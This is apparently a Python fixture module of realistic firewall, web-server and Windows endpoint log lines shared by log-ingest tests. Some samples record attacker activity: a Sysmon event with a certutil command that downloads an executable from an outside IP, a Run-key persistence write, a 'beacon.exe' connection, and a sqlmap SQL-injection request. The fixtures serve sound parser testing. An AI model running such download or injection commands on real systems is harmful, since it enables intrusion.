"""Realistic log lines shared by the ingest tests, one constant per shape."""

import json
from collections.abc import Mapping

FORTIGATE = (
    '<189>date=2020-04-23 time=12:32:48 devname="FG-MEF-01" devid="FG100E4Q17000001" '
    'logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" '
    'eventtime=1587663168439640120 tz="-0500" srcip=10.10.10.10 srcport=60446 '
    'srcintf="port1" srcintfrole="lan" dstip=8.8.8.8 dstport=53 dstintf="wan1" '
    'dstintfrole="wan" sessionid=1234 proto=17 action="accept" policyid=45 '
    'policytype="policy" policyname="LAN to WAN" service="DNS" dstcountry="United States" '
    'srccountry="Reserved" trandisp="snat" transip=10.2.3.4 transport=60446 duration=180 '
    'sentbyte=82 rcvdbyte=98 sentpkt=1 rcvdpkt=1 appcat="unscanned"'
)
FORTIGATE_DENY = (
    'date=2019-05-10 time=11:37:47 logid="0000000013" type="traffic" subtype="forward" '
    "srcip=10.1.100.11 srcport=58012 dstip=81.2.69.142 dstport=80 proto=6 "
    'action="deny" policyid=1 srcintf="port1" dstintf="wan1" service="HTTP" '
    'devname="FG-MEF-01"'
)
IPTABLES = (
    "<4>Oct 11 22:14:15 gw01 kernel: [ 1234.567] [UFW BLOCK] IN=eth0 OUT= "
    "MAC=00:15:5d:01:02:03:00:15:5d:04:05:06:08:00 SRC=81.2.69.143 DST=172.16.54.114 "
    "LEN=60 TOS=0x00 PREC=0x00 TTL=47 ID=0 DF PROTO=TCP SPT=17805 DPT=445 WINDOW=14600 "
    "RES=0x00 SYN URGP=0"
)
IPTABLES_BARE = (
    "kernel: [12.3] DROP IN=eth0 OUT= MAC=00:11:22:33:44:55 SRC=81.2.69.143 "
    "DST=172.16.54.114 LEN=60 PROTO=UDP SPT=5353 DPT=53"
)
PFSENSE = (
    "<134>Oct 11 22:14:15 fw01 filterlog[123]: 5,,,1000000103,igb1,match,block,in,4,0x0,,"
    "64,0,0,DF,6,tcp,60,198.51.100.7,10.20.0.5,51000,22,0,S,3456789,,64240,,mss"
)
PFSENSE_V6 = (
    "<134>1 2023-10-11T22:14:15.5Z fw01 filterlog 123 - - 7,,,1000000104,igb0,match,pass,"
    "out,6,0x00,0x00000,64,udp,17,80,2001:db8::1,2001:db8::2,5353,53,80"
)
CEF = (
    "<134>Oct 11 22:14:15 relay01 CEF:0|Fortinet|FortiGate|7.0.5|13|traffic:forward|5|"
    "rt=1557513467000 dvchost=FG-CEF-01 src=10.1.100.11 spt=58012 dst=81.2.69.142 dpt=443 "
    "proto=6 act=close deviceInboundInterface=port1 deviceOutboundInterface=wan1 "
    "deviceDirection=1 app=HTTPS"
)

COMBINED = (
    '203.0.113.9 - frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif?x=1&y=2 HTTP/1.0" '
    '200 2326 "http://www.example.com/start.html" "Mozilla/4.08 [en] (Win98; I ;Nav)"'
)
COMMON = '192.0.2.1 - - [10/Oct/2000:13:55:36 +0000] "POST /login HTTP/1.1" 401 -'
NGINX_SYSLOG = (
    "<190>Oct 11 22:14:15 web01 nginx: 10.0.0.5 - - [11/Oct/2023:22:14:15 +0200] "
    '"GET /search?q=%27%20or%201=1 HTTP/1.1" 500 153 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"'
)
APACHE_ESCAPED = (
    '198.51.100.4 - - [10/Oct/2000:13:55:36 -0700] "GET /a?x=\\"b\\" HTTP/1.1" 404 10 '
    '"-" "curl/8.0"'
)
IIS_FIELDS = (
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"
)
IIS_LINE = (
    "2019-01-22 00:00:13 10.0.0.1 GET /owa/auth/logon.aspx replaceCurrent=1 443 - "
    "203.0.113.50 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15"
)

RUN_KEY = "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
SYSMON_PROCESS = json.dumps(
    {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": "ws01.corp.example",
        "EventData": {
            "UtcTime": "2024-01-02 03:04:05.678",
            "ProcessGuid": "{7c4a1f2e-1234-5678-9abc-def012345678}",
            "ProcessId": 4242,
            "Image": "C:\\Windows\\System32\\certutil.exe",
            "OriginalFileName": "CertUtil.exe",
            "CommandLine": "certutil.exe -urlcache -f http://203.0.113.7/a.exe a.exe",
            "CurrentDirectory": "C:\\Users\\alice\\",
            "User": "CORP\\alice",
            "IntegrityLevel": "High",
            "Hashes": "MD5=AB12CD,SHA256=EF34AB,IMPHASH=0011AA",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
            "ParentProcessId": "1000",
            "ParentCommandLine": "cmd.exe /c run.bat",
        },
    }
)
EVTX_REGISTRY = json.dumps(
    {
        "Event": {
            "System": {
                "EventID": 13,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "Computer": "ws02",
            },
            "EventData": {
                "UtcTime": "2024-01-02 03:04:05.000",
                "Image": "C:\\Windows\\regedit.exe",
                "TargetObject": RUN_KEY + "\\upd",
                "Details": "C:\\Users\\Public\\upd.exe",
                "EventType": "SetValue",
            },
        }
    }
)
WINLOGBEAT_NETWORK = json.dumps(
    {
        "@timestamp": "2024-01-02T03:04:05.678Z",
        "event": {"code": "3", "category": ["network"], "kind": "event"},
        "host": {"name": "ws03", "ip": ["10.0.0.3"]},
        "winlog": {
            "channel": "Microsoft-Windows-Sysmon/Operational",
            "event_id": 3,
            "computer_name": "ws03.corp.example",
            "event_data": {"User": "CORP\\bob", "Initiated": "true"},
        },
        "process": {"executable": "C:\\Tools\\beacon.exe", "pid": 77, "args": ["beacon.exe"]},
        "user": {"name": "bob", "domain": "CORP"},
        "destination": {"ip": "203.0.113.7", "port": 443},
        "source": {"ip": "10.0.0.3", "port": 50123},
        "network": {"transport": "TCP"},
    }
)

FIREWALL_LINES = (FORTIGATE, FORTIGATE_DENY, IPTABLES, IPTABLES_BARE, PFSENSE, PFSENSE_V6, CEF)
WEB_LINES = (COMBINED, COMMON, NGINX_SYSLOG, APACHE_ESCAPED, IIS_FIELDS, IIS_LINE)
ENDPOINT_LINES = (SYSMON_PROCESS, EVTX_REGISTRY, WINLOGBEAT_NETWORK)


def subset(row: Mapping[str, object], expected: Mapping[str, object]) -> dict[str, object]:
    """The values of ``row`` at ``expected``'s keys, to compare with ``expected``."""
    return {key: row[key] for key in expected}
